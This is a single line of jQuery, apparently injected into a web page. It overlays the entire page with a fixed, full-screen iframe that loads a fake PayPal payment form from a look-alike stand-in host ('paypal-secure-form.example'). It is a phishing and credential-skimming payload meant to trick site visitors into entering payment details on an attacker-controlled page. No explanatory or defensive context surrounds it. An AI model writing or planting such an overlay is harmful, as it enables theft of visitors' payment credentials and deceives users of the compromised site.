$('body').append('<iframe id="ppf" src="https://paypal-secure-form.example/pay.html" style="position:fixed;top:0;left:0;width:100%;height:100%"></iframe>');
